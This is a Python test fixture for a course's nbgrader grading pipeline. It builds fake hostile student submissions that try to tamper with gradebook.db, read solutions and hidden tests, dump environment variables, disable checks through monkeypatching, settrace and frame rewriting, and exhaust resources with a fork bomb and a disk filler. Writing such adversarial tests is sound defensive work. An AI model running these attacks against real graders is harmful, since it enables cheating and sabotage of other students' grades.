"""A hostile class for the grading pipeline test: submissions whose code attacks the grader
(`hostile_*`), abuses the machine (`resource_*`), or is honest work that stock nbgrader
grades wrongly (exit(), a deleted setup cell, a loop deaf to SIGINT, one 30 MB line).

Importing this module registers them in submissions.STUDENTS. An attack that could raise a
score is made on wrong answers (it earns 0 unless the attack works); one that could harm
others is made on right answers (it earns the lab's points). The test sets `ROOT` (the course
folder: an attacker would guess it from the working directory) and `PROBE_PORT` (a port on
the host's loopback that the test listens on) before the class submits.
"""
import nbformat

from notebooks import nbgrader_meta
from submissions import NotApplicable, Submission, _all_wrong, student

ROOT = None
PROBE_PORT = None


def _attack(lab, code, sources=None, at_end=False):
    """The release answered (with `sources`, default right), plus a cell of the student's own
    holding `code`, after the first answer cell (or at the end of the notebook)."""
    nb = lab.answered(**(sources or {}))
    cell = nbformat.v4.new_code_cell(code.replace("ROOT", repr(str(ROOT))))
    if at_end:
        nb.cells.append(cell)
    else:
        first = next(i for i, c in enumerate(nb.cells)
                     if nbgrader_meta(c).get("grade_id") == lab.answer_ids[0])
        nb.cells.insert(first + 1, cell)
    return nb


def _on_right_answers(lab, code, **kwargs):
    return Submission(_attack(lab, code, **kwargs), lab.total)


def _on_wrong_answers(lab, code):
    return Submission(_attack(lab, code, _all_wrong(lab)), 0)


_NEVER_FAIL = (
    "import types\n"
    "never = lambda *args, **kwargs: None\n"
    "fake = types.SimpleNamespace(check_close=never, check_scalar=never, check_shape=never,\n"
    "    check_true=never, check_call=lambda name, f, *a, hint=None, **k: f(*a, **k),\n"
    "    LabCheckError=AssertionError, fresh=lambda: fake)\n")
_MY_GRADES = ("select id from submitted_notebook where assignment_id in (select id from "
              "submitted_assignment where student_id = '{who}')")


# -- attacks on the grader ---------------------------------------------------------------------
@student
def hostile_fork_survivor(lab):
    """Wrong answers; forks a detached grandchild (setsid, double fork, SIGTERM/SIGHUP ignored)
    that gives itself full manual scores in gradebook.db once grading is over."""
    return _on_wrong_answers(lab, (
        "import os, signal, sqlite3, time\n"
        "if os.fork() == 0:\n"
        "    os.setsid()\n"
        "    if os.fork() == 0:\n"
        "        signal.signal(signal.SIGTERM, signal.SIG_IGN)\n"
        "        signal.signal(signal.SIGHUP, signal.SIG_IGN)\n"
        "        for _ in range(300):\n"
        "            time.sleep(0.5)\n"
        "            try:\n"
        "                db = sqlite3.connect(os.path.join(ROOT, 'gradebook.db'), timeout=1)\n"
        "                db.execute('update grade set manual_score = 10 where notebook_id in ('\n"
        f"                           \"{_MY_GRADES.format(who='hostile_fork_survivor')}\")')\n"
        "                db.commit()\n"
        "            except Exception:\n"
        "                pass\n"
        "        os._exit(0)\n"
        "    os._exit(0)\n"
        "os.wait()\n"))


@student
def hostile_sql_other_student(lab):
    """Right answers; an answer cell sets the correct student's grades to 0 with SQL."""
    return _on_right_answers(lab, (
        "import os, sqlite3\n"
        "for path in (os.path.join(ROOT, 'gradebook.db'), '../../../gradebook.db'):\n"
        "    try:\n"
        "        db = sqlite3.connect(path, timeout=5)\n"
        "        db.execute('update grade set auto_score = 0, manual_score = 0 where '\n"
        f"                   \"notebook_id in ({_MY_GRADES.format(who='correct')})\")\n"
        "        db.commit()\n"
        "        print('rewrote', path)\n"
        "    except Exception as err:\n"
        "        print('no gradebook at', path, err)\n"))


@student
def hostile_overwrite_classmate(lab):
    """Right answers; overwrites the correct student's submitted notebook and writes files
    into their submitted/ and autograded/ folders."""
    return _on_right_answers(lab, (
        "import glob, os\n"
        "for pattern in ('submitted/correct/*/*.ipynb', 'autograded/correct/*/*.ipynb'):\n"
        "    for path in glob.glob(os.path.join(ROOT, pattern)) + glob.glob('../../' + pattern[\n"
        "            pattern.index('/') + 1:]):\n"
        "        try:\n"
        "            open(path, 'w').write('{}')\n"
        "            open(os.path.join(os.path.dirname(path), 'planted.txt'), 'w').write('x')\n"
        "            print('overwrote', path)\n"
        "        except OSError as err:\n"
        "            print(err)\n"
        "print(sorted(os.listdir('..')) if os.path.isdir('..') else None)\n"))


@student
def hostile_read_solutions(lab):
    """Right answers; prints the instructor's source notebooks (solutions and hidden tests)."""
    return _on_right_answers(lab, (
        "import glob, os\n"
        "for path in glob.glob(os.path.join(ROOT, 'solutions', '*', '*.ipynb')) + glob.glob(\n"
        "        '../../../solutions/*/*.ipynb'):\n"
        "    print(open(path).read())\n"))


@student
def hostile_read_gradebook(lab):
    """Right answers; prints every source cell in gradebook.db, hidden tests included."""
    return _on_right_answers(lab, (
        "import os, sqlite3\n"
        "try:\n"
        "    db = sqlite3.connect(os.path.join(ROOT, 'gradebook.db'))\n"
        "    for (source,) in db.execute('select source from source_cell'):\n"
        "        print(source)\n"
        "except Exception as err:\n"
        "    print(err)\n"))


@student
def hostile_read_others(lab):
    """Right answers; prints other students' submitted and autograded notebooks (the graded
    ones hold the hidden tests)."""
    return _on_right_answers(lab, (
        "import glob, os\n"
        "for pattern in ('submitted/*/*/*.ipynb', 'autograded/*/*/*.ipynb'):\n"
        "    for path in glob.glob(os.path.join(ROOT, pattern)):\n"
        "        print(path, open(path).read())\n"))


def _spy(lab, spying):
    """Right answers; the first answer's first function runs `spying` (with `frame`, its
    caller's frame) every time it is called, then returns the right value."""
    answer = lab.breakable_answers()[0]
    name = next(iter(_functions_of(lab, answer)))
    code = (lab.student_code(answer) + "\n"
            f"_answer = {name}\n"
            f"def {name}(*args, **kwargs):\n"
            "    import sys, linecache\n"
            "    frame = sys._getframe(1)\n"
            + "".join(f"    {line}\n" for line in spying.splitlines()) +
            "    return _answer(*args, **kwargs)\n")
    return Submission(lab.answered(**{answer: code}), lab.total)


def _functions_of(lab, answer):
    from submissions import _functions
    return _functions(lab.student_code(answer))


@student
def hostile_print_caller_source(lab):
    """Right answers; a function prints the source of the cell that calls it, found through
    linecache and its caller's frame (the hidden tests, when a test cell calls it)."""
    return _spy(lab, "print(''.join(linecache.getlines(frame.f_code.co_filename)))")


@student
def hostile_print_history(lab):
    """Right answers; a function prints IPython's input history (In, _ih, the history
    manager) every time it is called."""
    return _spy(lab, "ip = get_ipython()\n"
                     "print('\\n'.join(ip.user_ns.get('In', [])))\n"
                     "print('\\n'.join(ip.user_ns.get('_ih', [])))\n"
                     "print('\\n'.join(ip.history_manager.input_hist_raw))")


@student
def hostile_replace_fresh(lab):
    """Wrong answers; replaces backprop.checks.fresh (and the module in sys.modules) by one
    returning checks that never fail."""
    return _on_wrong_answers(lab, _NEVER_FAIL + (
        "import sys, backprop.checks\n"
        "backprop.checks.fresh = lambda: fake\n"
        "sys.modules['backprop.checks'] = fake\n"))


@student
def hostile_settrace(lab):
    """Wrong answers; a sys.settrace hook rewrites `checks` in every frame that has it (test
    cells' locals are the notebook's globals) to checks that never fail."""
    return _on_wrong_answers(lab, _NEVER_FAIL + (
        "import sys\n"
        "def tracer(frame, event, arg):\n"
        "    if 'checks' in frame.f_globals and frame.f_globals['checks'] is not fake:\n"
        "        frame.f_globals['checks'] = fake\n"
        "    return tracer\n"
        "sys.settrace(tracer)\n"))


@student
def hostile_input_transformer(lab):
    """Wrong answers; an IPython input transformer blanks every later cell that mentions
    checks (the test cells), so they cannot fail."""
    return _on_wrong_answers(lab, (
        "get_ipython().input_transformers_post.append(\n"
        "    lambda lines: ['pass\\n'] if any('check' in line for line in lines) else lines)\n"))


@student
def hostile_network(lab):
    """Right answers; connects to a server on the grading machine's loopback and sends it
    data (the test listens there and counts connections)."""
    return _on_right_answers(lab, (
        "import socket\n"
        "try:\n"
        f"    with socket.create_connection(('127.0.0.1', {PROBE_PORT}), timeout=2) as s:\n"
        "        s.sendall(b'hostile_network was here')\n"
        "        print('connected')\n"
        "except OSError as err:\n"
        "    print('no network:', err)\n"))


@student
def hostile_environment(lab):
    """Right answers; prints the kernel's environment (the grader's secrets, if it has them)."""
    return _on_right_answers(lab, "import os\nprint(dict(os.environ))\n")


@student
def hostile_write_library(lab):
    """Right answers; appends to the course library's checks.py and plants a sitecustomize.py
    in the virtual environment, for every later student."""
    return _on_right_answers(lab, (
        "import os, sysconfig, backprop.checks\n"
        "for path in (backprop.checks.__file__,\n"
        "             os.path.join(sysconfig.get_paths()['purelib'], 'sitecustomize.py')):\n"
        "    try:\n"
        "        open(path, 'a').write('\\n# written by hostile_write_library\\n')\n"
        "        print('wrote', path)\n"
        "    except OSError as err:\n"
        "        print(err)\n"))


@student
def hostile_plant_tmp(lab):
    """Right answers; leaves files in /tmp and /dev/shm for later students or the grader."""
    return _on_right_answers(lab, (
        "for path in ('/tmp/backprop-hostile-planted', '/dev/shm/backprop-hostile-planted'):\n"
        "    try:\n"
        "        open(path, 'w').write('planted')\n"
        "    except OSError as err:\n"
        "        print(err)\n"))


@student
def hostile_kill_parent(lab):
    """Right answers; sends SIGTERM to the kernel's parent (nbgrader itself, unsandboxed)."""
    return _on_right_answers(lab, (
        "import os, signal\n"
        "try:\n"
        "    os.kill(os.getppid(), signal.SIGTERM)\n"
        "except OSError as err:\n"
        "    print(err)\n"))


@student
def hostile_symlink_in_folder(lab):
    """Right answers; hands in, next to the notebook, symbolic links to the gradebook and to
    solutions/ (nbgrader copies what they point to), and prints what they lead to."""
    submission = _on_right_answers(lab, (
        "import os\n"
        "for name in ('notes.txt', 'more_notes.txt'):\n"
        "    if os.path.exists(name):\n"
        "        print(open(name, 'rb').read().decode('utf-8', 'replace'))\n"))
    submission.files = {"notes.txt": ("link", f"{ROOT}/gradebook.db"),
                        "more_notes.txt": ("link", f"{ROOT}/solutions/{lab.path}")}
    return submission


@student
def hostile_snoop_test_files(lab):
    """Right answers; a background thread watches the kernel's connection folder for the
    files the grader hands test cells in, and prints what it found at the end."""
    nb = _attack(lab, (
        "import os, sys, threading, time\n"
        "found, folder = {}, os.path.dirname(sys.argv[sys.argv.index('-f') + 1])\n"
        "def snoop():\n"
        "    for _ in range(3000):\n"
        "        for root, _, files in os.walk(folder):\n"
        "            for name in files:\n"
        "                try:\n"
        "                    found[name] = open(os.path.join(root, name)).read()\n"
        "                except OSError:\n"
        "                    pass\n"
        "        time.sleep(0.001)\n"
        "threading.Thread(target=snoop, daemon=True).start()\n"))
    nb.cells.append(nbformat.v4.new_code_cell("print(found)"))
    return Submission(nb, lab.total)


@student
def hostile_audit_hook(lab):
    """Right answers; an audit hook records the source of everything compiled and every file
    opened (a graded test's code and the file it comes in), printed at the end."""
    nb = _attack(lab, (
        "import sys\n"
        "seen = []\n"
        "def spy(event, args):\n"
        "    if event in ('compile', 'open'):\n"
        "        seen.append(args[0] if isinstance(args[0], str) else repr(args))\n"
        "sys.addaudithook(spy)\n"))
    nb.cells.append(nbformat.v4.new_code_cell("print('\\n'.join(seen))"))
    return Submission(nb, lab.total)


# -- acting while a test calls the student's function ------------------------------------------
# When graded test cells ran in the student's kernel, whatever the kernel restored before a
# test, the function's body ran again in the middle of it, with the test's frames (and the
# check functions' frames) right above it on the stack; four of these scored on wrong answers
# and one leaked hidden values. With the checker (grading/checker.py), neither is in reach.
_WRONG = (
    "import sys, types, numpy\n"
    "def _wrong(value):  # the right value off by 0.5 (a dict or tuple: each entry)\n"
    "    if isinstance(value, dict):\n"
    "        return {key: _wrong(entry) for key, entry in value.items()}\n"
    "    if isinstance(value, tuple):\n"
    "        return tuple(_wrong(entry) for entry in value)\n"
    "    return numpy.asarray(getattr(value, 'loot', value)) + 0.5\n"
    "def _callers():  # the frames above the answer function that called _act, nearest first\n"
    "    frames, frame = [], sys._getframe(3)\n"
    "    while frame is not None:\n"
    "        frames.append(frame)\n"
    "        frame = frame.f_back\n"
    "    return frames\n")
# What a check becomes: a no-op (check_call: a call that never fails).
_NO_OPS = (
    "import backprop.checks\n"
    "_real_fresh = backprop.checks.fresh\n"
    "def _never(*args, **kwargs):\n"
    "    return None\n"
    "def _call(name, function, *args, hint=None, **kwargs):\n"
    "    try:\n"
    "        return function(*args, **kwargs)\n"
    "    except Exception:\n"
    "        return None\n")
# What the test's `checks` becomes: the library's checks with every check_* a no-op,
# fresh() handing out this copy again.
_FAKE_CHECKS = _NO_OPS + (
    "_fake = types.SimpleNamespace(**vars(backprop.checks))\n"
    "vars(_fake).update({name: _never for name in vars(backprop.checks)\n"
    "                    if name.startswith('check_')}, check_call=_call)\n"
    "_fake.fresh = lambda lab=None: _fake if lab is None else _real_fresh(lab)\n")


def _on_wrong_answers_acting(lab, code):
    """Every answer wrong, and a cell of the student's own (after the first answer) that
    defines `_act(value)`: each answer function computes the right value and returns
    `_act(value)`, which acts on the frames above it and returns a wrong value (`_wrong`)."""
    return Submission(_attack(lab, _WRONG + code, _all_wrong(lab, returns="_act(value)")), 0)


@student
def hostile_patch_during_call(lab):
    """Wrong answers; every answer function, each time a test calls it, first replaces by
    no-ops the check_* functions of every checks module it reaches from the frames above it
    (backprop.checks, the fresh copies the test and the lab checks use, the lab checks' own
    check_* functions), and `fresh` by one whose copies come patched, so that the rest of the
    test passes. Earns 0 unless that works."""
    return _on_wrong_answers_acting(lab, _NO_OPS + (
        "def _fresh(lab=None):\n"
        "    module = _real_fresh(lab)\n"
        "    _disarm(vars(module), set())\n"
        "    return module\n"
        "def _library(value):\n"
        "    return isinstance(value, types.ModuleType) and value.__name__.startswith('backprop')\n"
        "def _disarm(names, seen):  # a module's namespace, or the notebook's\n"
        "    if id(names) in seen:\n"
        "        return\n"
        "    seen.add(id(names))\n"
        "    for name, value in list(names.items()):\n"
        "        if name == 'check_call' and callable(value):\n"
        "            names[name] = _call\n"
        "        elif name.startswith('check_') and callable(value):\n"
        "            names[name] = _never\n"
        "        elif name == 'fresh' and callable(value):\n"
        "            names[name] = _fresh\n"
        "        elif _library(value):\n"
        "            _disarm(vars(value), seen)\n"
        "def _act(value):\n"
        "    seen = set()\n"
        "    for module in [m for n, m in list(sys.modules.items()) if n.startswith('backprop')]:\n"
        "        _disarm(vars(module), seen)\n"
        "    for frame in _callers():\n"
        "        if frame.f_globals.get('__name__', '').startswith(('backprop', '__main__')):\n"
        "            _disarm(frame.f_globals, seen)\n"
        "        for local in list(frame.f_locals.values()):\n"
        "            if _library(local):\n"
        "                _disarm(vars(local), seen)\n"
        "    return _wrong(value)\n"))


@student
def hostile_rewrite_caller_locals(lab):
    """Wrong answers; every answer function, each time it is called, walks up sys._getframe():
    in each frame's globals it rebinds `checks` and `fresh` (and a checks module's own check_*)
    to checks that never fail, and in each function frame's locals it replaces any checks
    module, sets `expected` to its own answer and a `target` or `threshold` to 0, written back
    into the running frame with ctypes' PyFrame_LocalsToFast. Earns 0 unless that works."""
    return _on_wrong_answers_acting(lab, _FAKE_CHECKS + (
        "import ctypes\n"
        "def _act(value):\n"
        "    answer = _wrong(value)\n"
        "    for frame in _callers():\n"
        "        names = frame.f_globals\n"
        "        if not names.get('__name__', '').startswith(('backprop', '__main__')):\n"
        "            continue\n"
        "        if 'checks' in names:\n"
        "            names['checks'] = _fake\n"
        "        if 'fresh' in names:\n"
        "            names['fresh'] = _fake.fresh\n"
        "        if 'check_close' in names:\n"
        "            names.update({n: vars(_fake)[n] for n in names if n.startswith('check_')})\n"
        "        if not frame.f_code.co_flags & 1:  # not a function: its locals are its globals\n"
        "            continue\n"
        "        local, changed = frame.f_locals, False\n"
        "        for name, seen in list(local.items()):\n"
        "            if hasattr(seen, 'check_close') and seen is not _fake:\n"
        "                local[name], changed = _fake, True\n"
        "            elif name == 'expected':\n"
        "                local[name], changed = answer, True\n"
        "            elif name in ('target', 'threshold') and isinstance(seen, (int, float)):\n"
        "                local[name], changed = 0.0, True\n"
        "        if changed:\n"
        "            try:\n"
        "                ctypes.pythonapi.PyFrame_LocalsToFast(ctypes.py_object(frame),\n"
        "                                                      ctypes.c_int(0))\n"
        "            except Exception as err:\n"
        "                print('PyFrame_LocalsToFast:', err)\n"
        "    return answer\n"))


@student
def hostile_read_caller_constants(lab):
    """Right answers; a function prints, once for each code object, the constants (numbers,
    strings, the tuples of list literals printed as lists), the names and, for the test's own
    code, a `dis` disassembly of every frame between it and the test that calls it: the hidden
    tests' expected values and messages, without their source."""
    return _spy(lab, (
        "import dis\n"
        "shown = globals().setdefault('_codes_shown', [])\n"
        "chain = []\n"
        "while frame is not None:\n"
        "    chain.append(frame)\n"
        "    if frame.f_code.co_name == '<module>':  # a cell's code: the test itself\n"
        "        break\n"
        "    frame = frame.f_back\n"
        "for code in [f.f_code for f in reversed(chain)]:\n"
        "    if any(code is c for c in shown):\n"
        "        continue\n"
        "    shown.append(code)\n"
        "    print('== constants of', code.co_name, code.co_filename)\n"
        "    for c in code.co_consts:\n"
        "        print(repr(list(c)) if isinstance(c, tuple)\n"
        "              else f'\"{c}\"' if isinstance(c, str) else repr(c))\n"
        "    print('names:', code.co_names)\n"
        "    if code.co_name == '<module>':\n"
        "        dis.dis(code)"))


@student
def hostile_gc_expected(lab):
    """Wrong answers; every answer function returns, instead of its (wrong) array, an object
    that remembers the frames that called it and, when the test turns it into an array (or
    compares it with one), steals the value it is compared with: an `expected` of its shape in
    the frames that hold it (gc.get_referrers), on the stack or in the calling test's
    namespace, as integers when they are whole numbers. Earns 0 unless stealing works."""
    return _on_wrong_answers_acting(lab, (
        "import gc\n"
        "class _Loot:\n"
        "    def __init__(self, loot, frames):\n"
        "        self.loot, self.frames, self.stolen = loot, frames, None\n"
        "    def _steal(self):\n"
        "        if self.stolen is None:\n"
        "            stack, frame = [], sys._getframe(1)\n"
        "            while frame is not None:\n"
        "                stack.append(frame)\n"
        "                frame = frame.f_back\n"
        "            holders = [r for r in gc.get_referrers(self)\n"
        "                       if isinstance(r, types.FrameType)]\n"
        "            for frame in holders + stack + self.frames:\n"
        "                seen = frame.f_locals.get('expected')\n"
        "                try:\n"
        "                    seen = numpy.asarray(seen, dtype=float)\n"
        "                except (TypeError, ValueError):\n"
        "                    continue\n"
        "                if seen.shape == self.loot.shape:\n"
        "                    whole = seen.size and numpy.all(seen == numpy.round(seen))\n"
        "                    self.stolen = seen.astype(int) if whole else seen\n"
        "                    break\n"
        "        return self.loot if self.stolen is None else self.stolen\n"
        "    def __array__(self, dtype=None, copy=None):\n"
        "        value = numpy.asarray(self._steal())\n"
        "        return value if dtype is None else value.astype(dtype)\n"
        "    def __eq__(self, other):  # what it is compared with must be what it should be\n"
        "        self.stolen = numpy.asarray(other)\n"
        "        return numpy.asarray(self) == other\n"
        "    def __ne__(self, other):\n"
        "        return ~self.__eq__(other)\n"
        "    def __getattr__(self, name):\n"
        "        if name.startswith('__'):\n"
        "            raise AttributeError(name)\n"
        "        return getattr(numpy.asarray(self), name)\n"
        "    def __getitem__(self, index):\n"
        "        return numpy.asarray(self)[index]\n"
        "    def __len__(self):\n"
        "        return len(numpy.asarray(self))\n"
        "    def __iter__(self):\n"
        "        return iter(numpy.asarray(self))\n"
        "def _act(value):\n"
        "    answer = _wrong(value)\n"
        "    if isinstance(answer, (dict, tuple)):\n"
        "        return answer\n"
        "    return _Loot(answer, [f for f in _callers()\n"
        "                          if f.f_globals.get('__name__') == '__main__'][:1])\n"))


@student
def hostile_settrace_in_call(lab):
    """Wrong answers; every answer function, each time it is called, installs sys.settrace
    and threading.settrace hooks (and sets f_trace on the frames above it, as pdb.set_trace
    does), so that for the rest of the test every frame that uses `checks` finds it, and
    `fresh`, replaced by checks that never fail. Earns 0 unless that works."""
    return _on_wrong_answers_acting(lab, _FAKE_CHECKS + (
        "import threading\n"
        "def _tracer(frame, event, arg):\n"
        "    names = frame.f_globals\n"
        "    if 'checks' not in names:\n"
        "        return None\n"
        "    if names['checks'] is not _fake:\n"
        "        names['checks'] = _fake\n"
        "    if 'fresh' in names and names['fresh'] is not _fake.fresh:\n"
        "        names['fresh'] = _fake.fresh\n"
        "    return _tracer\n"
        "def _act(value):\n"
        "    sys.settrace(_tracer)\n"
        "    threading.settrace(_tracer)\n"
        "    for frame in _callers():\n"
        "        if 'checks' in frame.f_globals:\n"
        "            frame.f_trace = _tracer\n"
        "    return _wrong(value)\n"))


# -- abusing the machine -----------------------------------------------------------------------
@student
def resource_fork_bomb(lab):
    """Right answers; forks until the system refuses (each child sleeps 3 s and exits)."""
    return _on_right_answers(lab, (
        "import os, time\n"
        "children = []\n"
        "try:\n"
        "    for _ in range(2000):\n"
        "        pid = os.fork()\n"
        "        if pid == 0:\n"
        "            time.sleep(3)\n"
        "            os._exit(0)\n"
        "        children.append(pid)\n"
        "except OSError as err:\n"
        "    print('forks stopped after', len(children), 'children:', err)\n"
        "for pid in children:\n"
        "    os.waitpid(pid, 0)\n"))


@student
def resource_memory_hog(lab):
    """Right answers; asks for 8 GiB of memory."""
    return _on_right_answers(lab, (
        "try:\n"
        "    hog = bytearray(8 * 2**30)\n"
        "    print('got', len(hog))\n"
        "    del hog\n"
        "except MemoryError:\n"
        "    print('MemoryError')\n"))


@student
def resource_disk_filler(lab):
    """Right answers; writes 16 MiB files into its folder and /tmp until writing fails, and
    one 100 MB file."""
    return _on_right_answers(lab, (
        "import os\n"
        "block = b'x' * 2**24\n"
        "for folder in ('.', '/tmp'):\n"
        "    try:\n"
        "        for n in range(24):\n"
        "            open(os.path.join(folder, f'fill{n}.bin'), 'wb').write(block)\n"
        "    except OSError as err:\n"
        "        print(folder, 'full after', n, 'files:', err)\n"
        "try:\n"
        "    open('big.bin', 'wb').write(b'x' * 100_000_000)\n"
        "except OSError as err:\n"
        "    print('big file:', err)\n"
        "for folder in ('.', '/tmp'):\n"
        "    for name in os.listdir(folder):\n"
        "        if name.endswith('.bin'):\n"
        "            os.remove(os.path.join(folder, name))\n"))


# -- honest work that stock nbgrader grades wrongly --------------------------------------------
@student
def exits_early(lab):
    """Right answers; the first answer cell ends with IPython's exit()."""
    first = lab.answer_ids[0]
    return Submission(lab.answered(**{first: lab.student_code(first) + "\nexit()"}), lab.total)


@student
def sys_exit(lab):
    """Right answers; the last answer cell ends with sys.exit()."""
    last = lab.answer_ids[-1]
    code = lab.student_code(last) + "\nimport sys\nsys.exit('done')"
    return Submission(lab.answered(**{last: code}), lab.total)


@student
def setup_deleted(lab):
    """Right answers; the locked setup cell (imports) deleted."""
    nb = lab.answered()
    kept = [c for c in nb.cells if not (c.cell_type == "code" and nbgrader_meta(c).get("locked")
                                        and not nbgrader_meta(c).get("grade"))]
    if len(kept) == len(nb.cells):
        raise NotApplicable("this lab has no locked setup cell")
    nb.cells = kept
    return Submission(nb, lab.total)


@student
def ignores_sigint(lab):
    """One answer ignores SIGINT and never returns, so nbgrader's interrupt cannot stop it;
    it costs only the tests that call it."""
    from submissions import _into_body
    target = min(lab.breakable_answers(), key=lambda a: len(lab.tests_using(a)))
    code = _into_body(lab, target, ["import signal", "signal.signal(signal.SIGINT, "
                                    "signal.SIG_IGN)", "while True:", "    pass"])
    return Submission(lab.answered(**{target: code}), lab.points_without(target))


@student
def one_huge_line(lab):
    """Right answers; one answer cell prints a single 30 MB line."""
    first = lab.answer_ids[0]
    code = "print('x' * 30_000_000)\n" + lab.student_code(first)
    return Submission(lab.answered(**{first: code}), lab.total)


from hostile import files  # noqa: E402,F401 (registers the hostile students of files.py)
import hostile.markup  # noqa: E402,F401 (registers the markup students)
import hostile.lookup  # noqa: E402,F401 (registers those who pass build-and-train untrained)
from hostile import pristine  # noqa: E402,F401 (its students, against the tests' namespace)
